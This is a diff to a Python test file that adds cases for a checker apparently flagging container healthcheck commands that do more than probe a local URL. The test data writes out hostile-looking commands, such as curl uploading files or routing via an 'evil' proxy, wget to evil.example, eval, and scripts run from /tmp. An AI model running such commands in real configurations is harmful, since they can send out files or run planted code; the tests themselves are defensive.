@@ -5,7 +5,8 @@ from __future__ import annotations
 import pytest
 
 from bidops_cfn.model import Listener
-from bidops_cfn.spec.concerns import command_concern, takes_all
+from bidops_cfn.spec.commands import command_concern
+from bidops_cfn.spec.concerns import takes_all
 
 URL = "http://127.0.0.1:3000/api/health"
 
@@ -26,6 +27,58 @@ URL = "http://127.0.0.1:3000/api/health"
 )
 def test_a_command_that_does_more_needs_an_eye(script: str, concern: str) -> None:
     assert command_concern(("CMD-SHELL", script)) == concern
+
+
+@pytest.mark.parametrize(
+    ("command", "concern"),
+    [
+        (["CMD", "curl", "-f", "-x", "evil:80", URL], "tells curl more than whom to ask: -x"),
+        (["CMD", "curl", "-f", "-K", "/app/x", URL], "tells curl more than whom to ask: -K"),
+        (["CMD", "curl", "-f", "--upload-file", "/app/x", URL],
+         "tells curl more than whom to ask: --upload-file"),
+        (["CMD", "curl", "-f", "-d", "@/app/x", URL], "tells curl more than whom to ask: -d"),
+        (["CMD", "curl", "-f", URL, "-o", "/app/x"], "writes /app/x"),
+        (["CMD", "wget", "-O", "/app/x", URL], "writes /app/x"),
+        (["CMD", "wget", "-q", "evil.example/x"], "talks to evil.example"),
+        (["CMD", "/tmp/check", URL], "runs /tmp/check, which tasks may write"),
+        (["CMD", "sh", "/app/check.sh"], "runs a script of its own by sh"),
+        (["CMD-SHELL", f"curl -f {URL} > /app/x"], "writes /app/x"),
+        (["CMD-SHELL", f"curl -f {URL} >>/app/x 2>&1"], "writes /app/x"),
+        (["CMD-SHELL", f"curl -f {URL} && sh /tmp/x"], "runs a script of its own by sh"),
+        (["CMD-SHELL", f"curl -f {URL} && . /app/x"], "runs or writes something else: ."),
+        (["CMD-SHELL", f"eval curl -f {URL}"], "runs or writes something else: eval"),
+        (["CMD", "sh", "-c", f"/tmp/x && curl -f {URL}"], "runs /tmp/x, which tasks may write"),
+        (["CMD", "node", "-e", f"require('child_process');fetch('{URL}')"],
+         "runs or writes something else: child_process"),
+        (["CMD", "python", "-c", f"import subprocess as s;s.run(['x'])#{URL}"],
+         "runs or writes something else: subprocess"),
+        (["CMD", "python", "-c", f"open('/app/x','w')#{URL}"],
+         "runs or writes something else: open"),
+    ],
+)  # fmt: skip
+def test_a_plain_form_that_does_more_needs_an_eye(command: list[str], concern: str) -> None:
+    assert command_concern(command) == concern
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["CMD", "curl", "-fsS", "--max-time", "4", "-o", "/dev/null", URL],
+        ["CMD", "wget", "-q", "-O", "-", URL],
+        ["CMD", "wget", "-qO-", "-T", "4", URL],
+        ["CMD-SHELL", f"curl -f {URL} >/dev/null 2>&1 || exit 1"],
+        ["CMD-SHELL", f"curl -f {URL} > /dev/null || exit 1"],
+        ["CMD", "sh", "-c", f"exec curl -f {URL}"],
+        [
+            "CMD",
+            "node",
+            "-e",
+            f"fetch('{URL}').then(r=>process.exit(r.ok?0:1),()=>process.exit(1))",
+        ],
+    ],
+)
+def test_a_plain_form_needs_none(command: list[str]) -> None:
+    assert command_concern(command) == ""
 
 
 @pytest.mark.parametrize(
